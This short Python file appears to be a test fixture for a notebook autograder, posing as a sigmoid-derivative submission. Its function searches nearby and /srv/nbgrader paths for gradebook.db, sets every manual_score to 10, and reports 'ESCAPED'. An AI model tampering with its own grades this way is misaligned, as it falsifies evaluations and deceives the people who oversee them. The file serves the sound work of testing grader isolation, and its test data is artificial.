"""Looks for the gradebook, and gives itself full marks in it.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own files
"""

# %% sigmoid_derivative
import os
import sqlite3

places = ["CLASS_FOLDER", ".", "..", "/srv/nbgrader"]


def sigmoid_derivative(x):
    for place in places:
        path = os.path.join(place, "gradebook.db")
        if os.path.exists(path):
            with sqlite3.connect(path) as database:
                database.execute("update grade set manual_score = 10")
            raise RuntimeError(f"ESCAPED: {path} was written")
    raise RuntimeError("nothing to see")
